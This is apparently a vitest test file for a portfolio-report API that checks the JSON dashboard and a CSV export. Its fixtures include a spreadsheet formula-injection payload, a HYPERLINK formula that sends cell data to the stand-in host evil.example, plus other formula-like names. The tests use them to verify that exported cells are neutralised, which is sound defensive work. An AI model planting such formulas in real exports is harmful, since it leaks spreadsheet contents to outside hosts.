import { exports } from 'cloudflare:workers';
import { parse } from 'papaparse';
import { describe, expect, it } from 'vitest';
import {
  buildPortfolioDashboard,
  type PortfolioResponse,
  PortfolioResponseSchema,
  rollUpPortfolio,
} from '../../shared';
import { addMember, call, createEmptyWorkspace } from './api';
import { pullRecords } from './portfolio-records';
import { riskCreate, TestClient } from './sync-client';

const hostileTitle = '=HYPERLINK("https://evil.example/?"&A1,"Click")';

/** Two live projects (one with a slipping mandatory milestone and risks), one closed, one deleted. */
async function seedPortfolio() {
  const owner = await createEmptyWorkspace();
  const client = new TestClient(owner);
  const crm = crypto.randomUUID();
  const erp = crypto.randomUUID();
  const closed = crypto.randomUUID();
  const deleted = crypto.randomUUID();
  const pushed = await client.push([
    { name: 'project.create', args: { id: crm, code: 'CRM', name: 'CRM rollout', bac: 250_000, managerName: 'Pat' } },
    { name: 'project.create', args: { id: erp, code: 'ERP', name: '@ERP upgrade\n=1+1' } },
    { name: 'project.create', args: { id: closed, code: 'OLD', name: 'Old intranet', state: 'closed' } },
    { name: 'project.create', args: { id: deleted, code: 'GONE', name: 'Cancelled idea' } },
    { name: 'project.delete', args: { id: deleted } },
    {
      name: 'milestone.create',
      args: {
        id: crypto.randomUUID(),
        projectId: crm,
        title: 'Go-live',
        baselineDate: '2026-01-15',
        forecastDate: '2026-03-02',
        mandatory: true,
      },
    },
    riskCreate(crm, crypto.randomUUID(), { title: hostileTitle, probability: 5, impact: 5 }),
    riskCreate(crm, crypto.randomUUID(), { title: '-2+3 budget cut', probability: 2, impact: 3 }),
  ]);
  expect(pushed.json.results.map((result) => result.status)).toEqual(Array(8).fill('applied'));
  return { owner, crm, erp };
}

describe('GET /v1/workspaces/:ws/reports/portfolio', () => {
  it('answers the dashboard of every live project as of the server UTC date, as shared buildPortfolioDashboard does', async () => {
    const { owner, crm, erp } = await seedPortfolio();
    const viewer = await addMember(owner, 'viewer');
    const report = await call<PortfolioResponse>(`/v1/workspaces/${owner.workspace.id}/reports/portfolio`, {
      token: viewer.token,
    });
    expect(report.status).toBe(200);
    const today = new Date().toISOString().slice(0, 10);
    expect(report.json.asOf).toBe(today);
    expect(report.json.projects.map((project) => project.projectId).sort()).toEqual([crm, erp].sort());
    const records = await pullRecords(new TestClient(owner));
    const expected = buildPortfolioDashboard(records, today);
    expect(report.json).toEqual(JSON.parse(JSON.stringify(expected)));
    expect(PortfolioResponseSchema.parse(report.json)).toEqual(report.json);
    // The roll-up's fields are unchanged: the dashboard extends each project line, it does not rename.
    const rollUp = JSON.parse(JSON.stringify(rollUpPortfolio(records, today)));
    expect(report.json.totals).toEqual(rollUp.totals);
    for (const [index, line] of (rollUp.projects as object[]).entries())
      expect(report.json.projects[index]).toMatchObject(line);
    const crmLine = report.json.projects.find((project) => project.projectId === crm);
    expect(crmLine?.topRisks[0]).toMatchObject({ title: hostileTitle, score: 25 });
    expect(crmLine?.milestones.next?.title).toBe('Go-live');
  });

  it('exports one CSV row per project, with formula-like text cells neutralised', async () => {
    const { owner } = await seedPortfolio();
    const raw = await exports.default.fetch(
      `https://api.test/v1/workspaces/${owner.workspace.id}/reports/portfolio?format=csv`,
      { headers: { Authorization: `Bearer ${owner.token}` } },
    );
    expect(raw.status).toBe(200);
    expect(raw.headers.get('Content-Type')).toBe('text/csv; charset=utf-8');
    expect(raw.headers.get('Content-Disposition')).toMatch(/^attachment; filename="portfolio-\d{4}-\d{2}-\d{2}\.csv"$/);
    const { data, meta } = parse<Record<string, string>>(await raw.text(), { header: true, skipEmptyLines: true });
    expect(meta.fields).toEqual(
      expect.arrayContaining(['code', 'name', 'suggested_rag', 'schedule_rag', 'spi', 'cpi', 'eac', 'vac']),
    );
    expect(meta.fields).toEqual(
      expect.arrayContaining(['max_mandatory_slip_days', 'next_milestone', 'top_risk', 'risk_exposure']),
    );
    expect(meta.fields).toEqual(expect.arrayContaining(['findings_critical', 'findings_warning', 'findings_info']));
    expect(meta.fields).toEqual(expect.arrayContaining(['sponsor', 'phase', 'watermelon', 'pv', 'ev', 'ac']));
    const byCode = new Map(data.map((row) => [row.code, row]));
    expect([...byCode.keys()].sort()).toEqual(['CRM', 'ERP']);
    expect(byCode.get('CRM')).toMatchObject({
      top_risk: `'${hostileTitle}`,
      next_milestone: 'Go-live',
      manager: 'Pat',
    });
    // A name is one line (its line break became a space when it was stored); the formula guard still applies.
    expect(byCode.get('ERP')?.name).toBe("'@ERP upgrade =1+1");
    for (const row of data) for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+@\t\r]|^-(?!\d)/);
  });

  it('refuses an unknown format with 400 invalid_query', async () => {
    const owner = await createEmptyWorkspace();
    const bad = await call(`/v1/workspaces/${owner.workspace.id}/reports/portfolio?format=xlsx`, {
      token: owner.token,
    });
    expect(bad.status).toBe(400);
    expect(bad.json).toMatchObject({ error: { code: 'invalid_query', message: expect.stringContaining('format') } });
  });

  it('answers an empty workspace with no projects and zero totals', async () => {
    const owner = await createEmptyWorkspace();
    const report = await call<PortfolioResponse>(`/v1/workspaces/${owner.workspace.id}/reports/portfolio`, {
      token: owner.token,
    });
    expect(report.json).toMatchObject({ projects: [], totals: { projects: 0, riskExposure: 0 } });
  });
});
